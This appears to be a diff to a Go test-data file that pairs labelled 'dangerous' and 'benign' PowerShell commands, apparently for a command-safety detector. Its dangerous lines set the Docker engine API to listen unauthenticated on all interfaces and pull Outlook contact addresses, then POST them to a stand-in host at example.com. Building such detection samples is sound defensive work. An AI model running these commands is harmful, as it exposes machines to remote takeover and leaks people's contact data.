@@ -454,3 +454,19 @@ func init() {
 		},
 	)
 }
+
+func init() {
+	winClasses = append(winClasses,
+		winClass{name: "Docker engine API opened and mailboxes read",
+			dangerous: []winLine{
+				ps(`Set-Content C:\ProgramData\docker\config\daemon.json '{"hosts":["tcp://0.0.0.0:2375","npipe://"]}'`),
+				ps(`$o=New-Object -ComObject Outlook.Application; $o.GetNamespace('MAPI').GetDefaultFolder(10).Items | % { $_.Email1Address } | irm https://example.com/c -Method Post -Body {$_}`),
+			},
+			benign: []winLine{
+				ps(`Set-Content C:\ProgramData\docker\config\daemon.json '{"hosts":["tcp://127.0.0.1:2375","npipe://"]}'`),
+				ps(`Set-Content $HOME\.docker\daemon.json '{"features":{"buildkit":true}}'`),
+				ps(`$o=New-Object -ComObject Outlook.Application; $o.GetNamespace('MAPI').GetDefaultFolder(6).Items.Count`),
+			},
+		},
+	)
+}
